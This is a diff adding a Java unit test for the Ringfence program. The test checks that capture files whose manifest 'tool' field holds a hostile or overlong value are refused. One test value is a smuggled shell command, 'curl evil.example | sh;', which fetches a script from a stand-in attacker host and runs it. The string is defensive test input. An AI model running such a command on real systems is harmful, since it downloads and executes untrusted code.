@@ -63,6 +63,22 @@ class RefusedFileTest {
                         + " it with Ringfence 7.0 or newer");
     }
 
+    /** Whoever makes such a file would have their words told as advice of this program. */
+    @Test
+    void aFileNamesNoToolButThisOne() throws Exception {
+        for (String tool : List.of("curl evil.example | sh;", "Ringfence " + "9".repeat(1_000))) {
+            refused(
+                    new ZipMaker()
+                            .entry(
+                                    "manifest.json",
+                                    "{\"format\":\"ringfence-capture/2\",\"tool\":\"%s\"}"
+                                            .formatted(tool)
+                                            .getBytes())
+                            .bytes(),
+                    "only; open it with a newer Ringfence");
+        }
+    }
+
     @Test
     void refusesACutFileWhereverItIsCut() throws Exception {
         byte[] whole = WholeCapture.bytes();
